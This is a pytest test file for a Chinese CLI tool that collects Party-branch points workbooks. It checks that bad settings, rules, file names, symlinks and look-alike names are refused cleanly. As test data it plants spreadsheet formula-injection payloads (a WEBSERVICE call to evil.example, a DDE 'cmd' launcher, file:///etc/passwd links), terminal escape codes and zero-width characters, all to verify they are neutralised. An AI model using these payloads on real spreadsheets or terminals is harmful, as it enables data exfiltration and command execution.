"""The clerk's ordinary slips and a branch's tricks end in a Chinese message or a rejection, never a traceback:
settings, the registry, rules files, `template`, odd file names, links and look-alike branch names."""

from __future__ import annotations

import datetime as dt
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from helpers import build, member, registry

from pointsbatch.cli import DATE, main

ROOT = Path(__file__).resolve().parent.parent


def invoke(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def manifest(out: Path) -> dict[str, dict]:
    return {f["name"]: f for f in json.loads((out / "run.json").read_text("utf-8"))["files"]}


# --- settings -----------------------------------------------------------------------------------------------------

def readme_settings() -> str:
    """The README's own pointsbatch.toml, verbatim: the test breaks if the README drifts."""
    text = (ROOT / "README.md").read_text(encoding="utf-8")
    section = text.split("### 常用设置文件 `pointsbatch.toml`", 1)[1]
    return re.search(r"```toml\n(.*?)```", section, re.S)[1]


def test_the_readmes_settings_file_works_as_written(tmp_path, monkeypatch):
    settings = readme_settings()
    assert "notice_start = 2027-01-20" in settings  # a TOML date, not a string
    monkeypatch.chdir(tmp_path)
    Path("pointsbatch.toml").write_text(settings, encoding="utf-8")
    registry(Path("支部名录.xlsx"), [("第一党支部", "yi@example.org")])
    Path("收件").mkdir()
    build(Path("收件") / "一支部.xlsx")
    before = snapshot(Path("收件"))
    result = invoke("run", "收件", "--jobs", "1")
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    assert snapshot(Path("收件")) == before
    out = next(Path(".").rglob("run.json")).parent  # (wherever the settings and defaults put OUT)
    notice = next(out.glob("支部/第一党支部/*公示.html")).read_text(encoding="utf-8")
    assert "公示时间为2027年1月20日至2027年1月24日" in notice
    assert "镇党委组织办 张干事（电话 1234567）" in notice  # contact
    assert "yi@example.org" in next((out / "发件箱").glob("*.eml")).read_text(encoding="utf-8")
    sent = invoke("send", str(out), "--dry-run")  # [send]: smtp_host, smtp_port, smtp_user, ssl
    assert sent.exit_code == 0 and "Traceback" not in sent.output, sent.output


@pytest.mark.parametrize("text", ["2027-01-20", "2027/1/20", "2027.1.20", "2027年1月20日", "2027-01-20 08:30"])
def test_dates_are_accepted_in_the_forms_workbooks_accept(text):
    assert DATE.convert(text, None, None) == dt.date(2027, 1, 20)
    assert DATE.convert(dt.date(2027, 1, 20), None, None) == dt.date(2027, 1, 20)
    assert DATE.convert(dt.datetime(2027, 1, 20, 8, 30), None, None) == dt.date(2027, 1, 20)


@pytest.mark.parametrize("setting", ['notice_start = "2027年1月20日"', 'notice_start = "2027/1/20"',
                                     "notice_start = 2027-01-20T09:00:00"])
def test_date_settings_as_text_or_toml_and_on_the_command_line(tmp_path, monkeypatch, setting):
    monkeypatch.chdir(tmp_path)
    Path("pointsbatch.toml").write_text(f"[run]\n{setting}\n", encoding="utf-8")
    Path("收件").mkdir()
    build(Path("收件") / "一支部.xlsx")
    result = invoke("run", "收件", "-o", "out", "--jobs", "1", "--run-date", "2027.1.15")
    assert result.exit_code == 0, result.output
    notice = next(Path("out").glob("支部/*/*公示.html")).read_text(encoding="utf-8")
    assert "公示时间为2027年1月20日" in notice
    assert json.loads(Path("out/run.json").read_text("utf-8"))["run_date"] == "2027-01-15"
    result = invoke("run", "收件", "-o", "out2", "--jobs", "1", "--notice-start", "2027年2月1日")
    assert result.exit_code == 0, result.output  # the command line wins over the file
    assert "公示时间为2027年2月1日" in next(Path("out2").glob("支部/*/*公示.html")).read_text(encoding="utf-8")


WRONG_SETTINGS = [
    ("[run]\njobs = \"两个\"\n", "[run] jobs"),
    ("[run]\nregistry = 5\n", "[run] registry"),
    ("[run]\nnotice_start = \"下周一\"\n", "[run] notice_start"),
    ("[run]\nnotice_start = 20270120\n", "[run] notice_start"),
    ("[run]\nperiod = \"yearly\"\n", "[run] period"),
    ("[run]\ncontact = [\"张干事\"]\n", "[run] contact"),
    ("[send]\nssl = \"yes\"\n", "[send] ssl"),
    ("[send]\nsmtp_port = \"465\"\n", "[send] smtp_port"),
    ("out = 1\n", "out"),
    ("[run]\nnotice_strat = 2027-01-20\n", "[run] notice_strat"),
    ("registyr = \"支部名录.xlsx\"\n", "registyr"),
    ("[runn]\nout = \"results\"\n", "[runn]"),
    ("[run\nout = \"results\"\n", "格式有误"),
]


@pytest.mark.parametrize(("text", "named"), WRONG_SETTINGS)
def test_a_wrong_setting_is_refused_naming_it_and_the_file(tmp_path, monkeypatch, text, named):
    monkeypatch.chdir(tmp_path)
    Path("pointsbatch.toml").write_text(text, encoding="utf-8")
    Path("收件").mkdir()
    build(Path("收件") / "一支部.xlsx")
    before = snapshot(tmp_path)
    result = CliRunner().invoke(main, ["run", "收件", "--jobs", "1"])
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    assert "pointsbatch.toml" in result.output and named in result.output
    assert result.output.startswith("错误：")
    assert snapshot(tmp_path) == before  # nothing written, nothing read into an OUT


# --- the registry ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("cell", "why"), [
    ("yi@example.org\nyi2@example.org", "2个邮箱地址"),
    ("yi@example.org；yi2@example.org", "2个邮箱地址"),
    ("yi@example.org, yi2@example.org", "2个邮箱地址"),
    ("yi@example.org，yi2@example.org、yi3@example.org", "3个邮箱地址"),
    ("yi@example.org yi2@example.org", "2个邮箱地址"),
    ("yi@", "不是有效的邮箱地址"),
    ("无", "不是有效的邮箱地址"),
    ("yi@example", "不是有效的邮箱地址"),
])
def test_a_registry_cell_that_is_not_one_address_is_refused_naming_the_cell(tmp_path, cell, why):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    build(inbox / "一支部.xlsx")
    names = registry(tmp_path / "支部名录.xlsx", [("第二党支部", "er@example.org"), ("第一党支部", cell)])
    before = snapshot(tmp_path)
    result = invoke("run", str(inbox), "-o", str(tmp_path / "out"), "--jobs", "1", "--registry", str(names))
    assert result.exit_code == 2
    assert "Traceback" not in result.output
    text = " ".join(result.output.split())  # (rich wraps long lines)
    assert "E3" in text and "第一党支部" in text and why in text
    assert snapshot(tmp_path) == before


def test_a_registry_address_typed_full_width_is_used(tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    build(inbox / "一支部.xlsx")
    names = registry(tmp_path / "支部名录.xlsx", [("第一党支部", " ｙｉ＠ｅｘａｍｐｌｅ.ｏｒｇ ")])
    result = invoke("run", str(inbox), "-o", str(tmp_path / "out"), "--jobs", "1", "--registry", str(names))
    assert result.exit_code == 0, result.output
    message = next((tmp_path / "out" / "发件箱").glob("*.eml")).read_text(encoding="utf-8")
    assert "To: yi@example.org" in message


# --- rules files ----------------------------------------------------------------------------------------------------

BUNDLED_RULES = (ROOT / "pointsbatch" / "rules.toml").read_text(encoding="utf-8")
NO_BASE_ITEMS = re.sub(r"  \[\[base\.items\]\].*?(?=\n\[incentive\])", "", BUNDLED_RULES, flags=re.S)

# (what is changed in the bundled rules, the setting the refusal names)
BAD_RULES = [
    (("step = 0.5", "step = nan"), "incentive.step"),
    (("step = 0.5", "step = 0"), "incentive.step"),
    (("step = 0.5", "step = 5"), "incentive.step"),
    (("item_cap = 4", "item_cap = inf"), "incentive.item_cap"),
    (("item_cap = 4", "item_cap = 0"), "incentive.item_cap"),
    (("total_cap = 40", "total_cap = -inf"), "incentive.total_cap"),
    (("activity_max = 4", "activity_max = 0"), "incentive.activity_max"),
    (("leading_multiplier = 2", "leading_multiplier = inf"), "incentive.leading_multiplier"),
    (("leading_multiplier = 2", "leading_multiplier = 0.5"), "incentive.leading_multiplier"),
    (("deduction_per_occurrence = 5", "deduction_per_occurrence = -5"), "negative.deduction_per_occurrence"),
    (("pass_mark = 60", "pass_mark = nan"), "grades.pass_mark"),
    (("pass_mark = 60", "pass_mark = 0"), "grades.pass_mark"),
    (("max_reward_rate = 5", "max_reward_rate = nan"), "grades.max_reward_rate"),
    (("decimals = 1", "decimals = -1"), "grades.decimals"),
    (("exempt_age = 75", "exempt_age = 0"), "scope.exempt_age"),
    (("days = 5", "days = 0"), "notice.days"),
    (("points = 1", "points = 0"), "base.items[0].points"),
    (("points = 1", "points = -1"), "base.items[0].points"),
    (("points = 1", "points = nan"), "base.items[0].points"),
    (("points = 1", "points = 1e308"), "base.items[0].points"),  # finite, but the sums would overflow
    (("max_reward_rate = 5", "max_reward_rate = 1e9"), "grades.max_reward_rate"),
    (("points = 1", 'points = "一分"'), "base.items[0].points"),
    ((r'absence_items = \[.*\]', "absence_items = []"), "veto.absence_items"),
    ((r'absence_items = \[.*\]', 'absence_items = ["activity_day", 3]'), "veto.absence_items"),
    ((r'absence_items = \[.*\]', 'absence_items = ["lecture", "lecture"]'), "veto.absence_items"),
    ((r'absence_items = \[.*\]', 'absence_items = "lecture"'), "veto.absence_items"),
    ((r'name = "党员教育管理.*"', 'name = " "'), "name"),
    ((r"(\[incentive\])", '  [[base.items]]\n  key = "dues"\n  name = "党费"\n  points = 1\n\n\\1'), "base.items"),
    ((r"(\[incentive\])", '  [[base.items]]\n  key = "dues"\n\n\\1'), "base.items[7].name"),
    ((r"\A", ""), "base.items"),  # with every [[base.items]] removed: see below
]


@pytest.mark.parametrize(("change", "named"), BAD_RULES, ids=[f"{n}:{c[1][:24]}" for c, n in BAD_RULES])
def test_a_rules_file_with_a_meaningless_value_is_refused_naming_the_setting(tmp_path, change, named):
    source = NO_BASE_ITEMS if change == (r"\A", "") else BUNDLED_RULES
    text, n = re.subn(change[0], change[1], source, count=1)
    assert n == 1 and text != BUNDLED_RULES
    rules = tmp_path / "本镇规则.toml"
    rules.write_text(text, encoding="utf-8")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    build(inbox / "一支部.xlsx")
    before = snapshot(tmp_path)
    result = invoke("run", str(inbox), "-o", str(tmp_path / "out"), "--jobs", "1", "--rules", str(rules))
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert f"设置项 {named}" in " ".join(result.output.split()), result.output
    assert snapshot(tmp_path) == before
    checked = invoke("check", str(inbox / "一支部.xlsx"), "--rules", str(rules))
    assert checked.exit_code == 2 and f"设置项 {named}" in checked.output


# --- template ---------------------------------------------------------------------------------------------------------

def test_template_never_overwrites_an_existing_file(tmp_path):
    filled = build(tmp_path / "已填好的.xlsx")
    before = filled.read_bytes()
    for extra in ([], ["--from", str(filled)]):
        result = invoke("template", "-o", str(filled), *extra)
        assert result.exit_code == 2
        assert "已经存在" in result.output and "Traceback" not in result.output
        assert filled.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["已填好的.xlsx"]  # no temporary file left


def test_a_file_that_appears_while_the_template_is_written_is_not_replaced(tmp_path):
    from pointsbatch.rules import load_rules
    from pointsbatch.workbook.template import build_template, write_workbook

    target = tmp_path / "新.xlsx"
    wb = build_template(load_rules(), 2027)
    real_save = wb.save

    def slow_save(name):  # someone saves their own file under the same name meanwhile
        target.write_bytes(b"their work")
        real_save(name)

    wb.save = slow_save
    with pytest.raises(FileExistsError):
        write_workbook(wb, target, overwrite=False)
    assert target.read_bytes() == b"their work"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["新.xlsx"]


def test_template_from_keeps_text_that_looks_like_a_formula_as_text(tmp_path):
    import zipfile

    from openpyxl import load_workbook

    tricky = ['=HYPERLINK("file:///etc/passwd","点我")', "+86 13800000000", "-", "@张三"]
    roster = [member(i, f"党员{i}") for i in range(1, 5)]
    for row, text in zip(roster, tricky, strict=True):
        row[-1] = text  # 备注
    previous = build(tmp_path / "去年.xlsx", roster=roster, info_over={"secretary": "=1+1"})
    before = previous.read_bytes()
    new = tmp_path / "今年.xlsx"
    result = invoke("template", "-o", str(new), "--year", "2027", "--from", str(previous), "--branch", "=2+2")
    assert result.exit_code == 0, result.output
    assert previous.read_bytes() == before
    with zipfile.ZipFile(new) as zf:
        assert not any(b"<f>" in zf.read(n) or b"<f " in zf.read(n) for n in zf.namelist() if "worksheets" in n)
    wb = load_workbook(new)
    notes = [c.value for c in wb["党员名册"]["K"][1:5]]  # 备注
    assert notes == tricky
    assert all(c.data_type == "s" and c.quotePrefix for c in wb["党员名册"]["K"][1:5])
    info = {r[0].value.rstrip("*"): r[1] for r in wb["支部信息"].iter_rows(min_row=2)}
    assert (info["支部名称"].value, info["支部名称"].data_type) == ("=2+2", "s")
    assert (info["支部书记"].value, info["支部书记"].data_type) == ("=1+1", "s")


# --- file names, links and cores ----------------------------------------------------------------------------------

def bytes_listing(folder: Path) -> dict[bytes, bytes]:
    import os

    root = os.fsencode(folder)
    return {name: Path(os.fsdecode(os.path.join(root, name))).read_bytes() for name in sorted(os.listdir(root))
            if Path(os.fsdecode(os.path.join(root, name))).is_file()}


def test_a_file_name_that_is_not_utf8_is_processed_and_shown_escaped(tmp_path):
    import os
    import subprocess
    import sys

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    good = build(tmp_path / "good.xlsx").read_bytes()
    root = os.fsencode(inbox)
    # 工作簿.xlsx and 坏.xlsx in GBK, as a zip unpacked on Windows leaves them
    with open(os.path.join(root, "工作簿".encode("gbk") + b".xlsx"), "wb") as fh:
        fh.write(good)
    with open(os.path.join(root, "坏".encode("gbk") + b".xlsx"), "wb") as fh:
        fh.write(b"not a workbook")
    before = bytes_listing(inbox)
    out = tmp_path / "out"
    # a real process: its stdout is strict UTF-8, as a terminal's is (the test runner's is forgiving)
    proc = subprocess.run([sys.executable, "-m", "pointsbatch.cli", "run", str(inbox), "-o", str(out), "--jobs", "1"],
                          capture_output=True, env={**os.environ, "LANG": "C.UTF-8", "COLUMNS": "200"})
    output = proc.stdout.decode("utf-8") + proc.stderr.decode("utf-8")
    assert proc.returncode == 1, output
    assert "Traceback" not in output
    assert bytes_listing(inbox) == before
    shown_good = "\\xb9\\xa4\\xd7\\xf7\\xb2\\xbe.xlsx"
    shown_bad = "\\xbb\\xb5.xlsx"
    assert shown_good in output and shown_bad in output
    files = manifest(out)
    assert files[shown_good]["status"] == "accepted"
    assert [p["code"] for p in files[shown_bad]["problems"]] == ["file_unreadable"]
    for path in out.rglob("*"):  # every output name is valid UTF-8
        path.name.encode("utf-8")
    checked = subprocess.run([sys.executable, "-m", "pointsbatch.cli", "check",
                              os.fsdecode(os.path.join(root, "坏".encode("gbk") + b".xlsx"))], capture_output=True)
    text = checked.stdout.decode("utf-8") + checked.stderr.decode("utf-8")
    assert checked.returncode == 1 and "Traceback" not in text and shown_bad in text


def test_control_characters_and_markup_in_file_names_never_reach_the_terminal_raw(tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    build(inbox / "a\x1b[31m红\x07\r.xlsx")
    (inbox / "b[bold]\n[red]x.xlsx").write_bytes(b"junk")
    before = snapshot(inbox)
    result = invoke("run", str(inbox), "-o", str(tmp_path / "out"), "--jobs", "1")
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    for raw in ("\x1b", "\x07", "\r"):
        assert raw not in result.output
    text = "".join(result.output.split())
    assert "a\\x1b[31m红\\x07\\x0d.xlsx" in text and "b[bold]\\x0a[red]x.xlsx" in text
    assert snapshot(inbox) == before
    assert {f: v["status"] for f, v in manifest(tmp_path / "out").items()} == {
        "a\\x1b[31m红\\x07\\x0d.xlsx": "accepted", "b[bold]\\x0a[red]x.xlsx": "rejected"}
    checked = invoke("check", str(inbox / "b[bold]\n[red]x.xlsx"))
    assert checked.exit_code == 1 and "Traceback" not in checked.output and "\x1b" not in checked.output
    assert "b[bold]\\x0a[red]x.xlsx" in "".join(checked.output.split())


def test_links_in_inbox_that_point_outside_it_are_ignored_with_a_reason(tmp_path):
    inbox = tmp_path / "inbox"
    (inbox / "子文件夹").mkdir(parents=True)
    elsewhere = tmp_path / "别处"
    elsewhere.mkdir()
    build(elsewhere / "别人的.xlsx", info_over={"branch": "第二党支部"})
    build(inbox / "子文件夹" / "真的.xlsx")
    (inbox / "外链.xlsx").symlink_to(elsewhere / "别人的.xlsx")
    (inbox / "内链.xlsx").symlink_to(inbox / "子文件夹" / "真的.xlsx")
    (inbox / "断链.xlsx").symlink_to(tmp_path / "没有这个文件.xlsx")
    (inbox / "环1.xlsx").symlink_to(inbox / "环2.xlsx")
    (inbox / "环2.xlsx").symlink_to(inbox / "环1.xlsx")
    before = snapshot(elsewhere)
    result = invoke("run", str(inbox), "-o", str(tmp_path / "out"), "--jobs", "1")
    assert result.exit_code == 0, result.output
    files = manifest(tmp_path / "out")
    assert {name: f["status"] for name, f in files.items()} == {
        "外链.xlsx": "ignored", "内链.xlsx": "accepted", "断链.xlsx": "ignored", "子文件夹": "ignored",
        "环1.xlsx": "ignored", "环2.xlsx": "ignored"}
    assert "收件文件夹以外" in files["外链.xlsx"]["reason"]
    assert "收件文件夹以外" in " ".join(result.output.split())
    assert snapshot(elsewhere) == before


def test_jobs_are_capped_at_the_number_of_cores(tmp_path, monkeypatch):
    import os

    from pointsbatch import batch

    seen = []
    real = batch.run_batch

    def spy(options, progress=None):
        seen.append(options.jobs)
        return real(options, progress)

    monkeypatch.setattr(batch, "run_batch", spy)
    monkeypatch.setattr(os, "cpu_count", lambda: 1)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    build(inbox / "一.xlsx")
    build(inbox / "二.xlsx", info_over={"branch": "第二党支部"})
    for jobs in ("64", "-3", "0"):
        result = invoke("run", str(inbox), "-o", str(tmp_path / f"out{jobs}"), "--jobs", jobs)
        assert result.exit_code == 0, result.output
    assert seen == [1, 1, 1]


# --- links in the marked copy ---------------------------------------------------------------------------------------

def test_links_are_removed_from_the_marked_copy_mailed_back(tmp_path):
    import zipfile

    from helpers import act
    from openpyxl import load_workbook

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    path = build(inbox / "带链接.xlsx", incentive=[act("张三", "志愿服务", 9)])
    wb = load_workbook(path)
    wb["党员名册"]["K2"].hyperlink = "file:///C:/Users/书记/Desktop/全体党员身份证号.xlsx"
    wb["党员名册"]["K3"].hyperlink = "\\\\dangzheng-server\\共享\\名单.xlsx"
    wb["支部信息"]["C2"].hyperlink = "https://example.org/track"
    wb["激励积分"]["H2"] = '=HYPERLINK("file://server/share/a.xlsx","看这里")'
    wb["激励积分"]["I2"] = '=WEBSERVICE("http://evil.example/track")'
    wb["激励积分"]["J2"] = "='\\\\evilhost\\share\\[x.xlsx]Sheet1'!A1"
    wb["激励积分"]["K2"] = "=cmd|' /C calc'!A0"
    wb["激励积分"]["L2"] = "=SUM(F2:F3)"  # an ordinary formula reaches nothing: it stays one
    wb.save(path)
    before = snapshot(inbox)
    result = invoke("run", str(inbox), "-o", str(tmp_path / "out"), "--jobs", "1")
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert snapshot(inbox) == before
    problems = manifest(tmp_path / "out")["带链接.xlsx"]["problems"]
    assert {(p["sheet"], p["cell"], p["code"]) for p in problems} == {
        ("激励积分", "F2", "score_above_item_max"), ("", "", "links_removed"),
        *(("激励积分", cell, "formula_uncalculated") for cell in ("H2", "I2", "J2", "K2", "L2"))}
    assert "7处超链接" in next(p["message"] for p in problems if p["code"] == "links_removed")
    copy = tmp_path / "out" / "问题反馈" / "带链接_问题标注.xlsx"
    with zipfile.ZipFile(copy) as zf:
        rels = b"".join(zf.read(n) for n in zf.namelist() if n.endswith(".rels"))
        sheets = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
    for trace in (b"file://", b"dangzheng-server", b"example.org"):
        assert trace not in rels, trace
    targets = re.findall(rb'/hyperlink" Target="([^"]*)"', rels)
    assert len(targets) == 6 and all(t.startswith(b"#") for t in targets)  # only 问题清单's jumps to its cells
    formulas = re.findall(rb"<f>(.*?)</f>", sheets)
    assert formulas and not [f for f in formulas if re.search(rb"HYPERLINK|WEBSERVICE|evilhost|cmd\|", f)]
    marked = load_workbook(copy)
    assert [marked["激励积分"][c].data_type for c in ("H2", "I2", "J2", "K2", "L2")] == ["s", "s", "s", "s", "f"]
    listing = (tmp_path / "out" / "问题反馈" / "带链接_问题清单.txt").read_text(encoding="utf-8-sig")
    assert "[提醒]" in listing and "超链接或外部链接" in listing
    assert "超链接或外部链接" in str([c.value for c in marked["问题清单"]["F"]])


# --- look-alike branch names --------------------------------------------------------------------------------------

LOOK_ALIKES = ["城关村党支部.", "城关村党支部\u200b", "\ufeff城关村党支部", "城关村\u200d党支部\u202c", "城关村党支部．",
               "城关村 党支部 "]


@pytest.mark.parametrize("look_alike", LOOK_ALIKES)
def test_a_look_alike_branch_name_is_a_duplicate_not_a_new_branch(tmp_path, look_alike):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    build(inbox / "城关村.xlsx", info_over={"branch": "城关村党支部"})
    build(inbox / "城关村（改）.xlsx", info_over={"branch": look_alike})
    build(inbox / "红星村.xlsx", info_over={"branch": "红星村党支部"})
    before = snapshot(inbox)
    out = tmp_path / "out"
    result = invoke("run", str(inbox), "-o", str(out), "--jobs", "1")
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert snapshot(inbox) == before
    files = manifest(out)
    assert {n: (f["status"], f["branch"]) for n, f in files.items()} == {
        "城关村.xlsx": ("rejected", "城关村党支部"), "城关村（改）.xlsx": ("rejected", "城关村党支部"),
        "红星村.xlsx": ("accepted", "红星村党支部")}
    for name in ("城关村.xlsx", "城关村（改）.xlsx"):
        assert {p["code"] for p in files[name]["problems"]} == {"file_duplicate_branch"}
    assert sorted(p.name for p in (out / "支部").iterdir()) == ["红星村党支部"]


def test_two_look_alikes_without_the_real_name_are_duplicates_too(tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    build(inbox / "a.xlsx", info_over={"branch": "城关村党支部."})
    build(inbox / "b.xlsx", info_over={"branch": "城关村党支部\u200b"})
    result = invoke("run", str(inbox), "-o", str(tmp_path / "out"), "--jobs", "1")
    assert result.exit_code == 1
    files = manifest(tmp_path / "out")
    assert {n: [p["code"] for p in f["problems"]] for n, f in files.items()} == {
        "a.xlsx": ["file_duplicate_branch"], "b.xlsx": ["file_duplicate_branch"]}


def test_a_look_alike_matches_its_registry_entry_and_no_output_name_carries_the_invisible_characters(tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    build(inbox / "城关村.xlsx", info_over={"branch": "\u200b城关村党支部\u200b."})
    names = registry(tmp_path / "支部名录.xlsx", [("城关村党支部\ufeff", "cg@example.org")])
    out = tmp_path / "out"
    result = invoke("run", str(inbox), "-o", str(out), "--jobs", "1", "--registry", str(names))
    assert result.exit_code == 0, result.output
    assert manifest(out)["城关村.xlsx"]["branch"] == "城关村党支部"
    assert json.loads((out / "run.json").read_text("utf-8"))["missing"] == []
    for path in out.rglob("*"):
        assert path.name.isprintable() and not path.name.endswith("."), path
    assert (out / "支部" / "城关村党支部").is_dir()


def test_a_registry_with_a_far_cell_is_refused_before_it_is_read(tmp_path):
    from helpers import run_measured
    from openpyxl import load_workbook

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    build(inbox / "一支部.xlsx")
    names = registry(tmp_path / "支部名录.xlsx", [("第一党支部", "yi@example.org")])
    wb = load_workbook(names)
    wb.active["XFD100000"] = "x"
    wb.save(names)
    before = snapshot(tmp_path)
    status, output, peak_mb = run_measured(inbox, tmp_path / "out", "--registry", str(names))
    assert status == 2 and "Traceback" not in output
    assert "用到第100000行" in "".join(output.split())
    assert peak_mb < 1024, peak_mb
    assert snapshot(tmp_path) == before


def test_a_notice_start_far_in_the_future_is_a_setting_error_not_every_branchs(tmp_path):
    from helpers import run

    inbox = tmp_path / "收件"
    inbox.mkdir()
    build(inbox / "a.xlsx")
    result = run(inbox, tmp_path / "out", "--notice-start", "9999-12-31")
    assert result.exit_code == 2 and "请检查年份" in result.output and "Traceback" not in result.output
    assert not (tmp_path / "out").exists()
